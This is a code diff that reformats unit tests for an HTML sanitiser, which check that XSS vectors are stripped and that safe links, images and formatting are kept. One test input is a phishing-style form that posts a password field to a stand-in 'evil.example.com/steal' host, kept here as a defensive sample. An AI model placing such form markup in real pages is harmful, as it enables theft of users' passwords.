@@ -69,7 +69,9 @@ describe('sanitizeHtml neutralises XSS vectors', () => {
   })
 
   it('removes <form> and its inputs', () => {
-    const html = sanitizeHtml('<form action="https://evil.example.com/steal"><input name="pw"><button>Go</button></form>')
+    const html = sanitizeHtml(
+      '<form action="https://evil.example.com/steal"><input name="pw"><button>Go</button></form>',
+    )
     expect(html).not.toMatch(/<form/i)
     expect(html).not.toMatch(/<input/i)
     expect(html).not.toMatch(/<button/i)
@@ -116,9 +118,12 @@ describe('sanitizeHtml keeps allowed content', () => {
     expect(sanitizeHtml('<a href="mailto:a@b.c">mail</a>')).toContain('href="mailto:a@b.c"')
   })
 
-  it.each(['/ko/newsroom/report', '#top', '../about', 'about.html', '?page=2'])('keeps the relative link %s', (href) => {
-    expect(sanitizeHtml(`<a href="${href}">link</a>`)).toContain(`href="${href}"`)
-  })
+  it.each(['/ko/newsroom/report', '#top', '../about', 'about.html', '?page=2'])(
+    'keeps the relative link %s',
+    (href) => {
+      expect(sanitizeHtml(`<a href="${href}">link</a>`)).toContain(`href="${href}"`)
+    },
+  )
 
   it('keeps target and rel on links', () => {
     expect(sanitizeHtml('<a href="https://x.example" target="_blank" rel="noopener noreferrer">x</a>')).toBe(
@@ -144,7 +149,8 @@ describe('sanitizeHtml keeps allowed content', () => {
   })
 
   it('keeps strong, em and other inline formatting', () => {
-    const html = '<p><strong>bold</strong> <em>italic</em> <u>u</u> <s>s</s> <code>c</code> <sub>1</sub><sup>2</sup></p>'
+    const html =
+      '<p><strong>bold</strong> <em>italic</em> <u>u</u> <s>s</s> <code>c</code> <sub>1</sub><sup>2</sup></p>'
     expect(sanitizeHtml(html)).toBe(html)
   })
 
@@ -170,6 +176,8 @@ describe('sanitizeHtml data: images', () => {
   })
 
   it('keeps an https image source', () => {
-    expect(sanitizeHtml('<img src="https://cdn.example.com/a.png" alt="a">')).toContain('src="https://cdn.example.com/a.png"')
+    expect(sanitizeHtml('<img src="https://cdn.example.com/a.png" alt="a">')).toContain(
+      'src="https://cdn.example.com/a.png"',
+    )
   })
 })
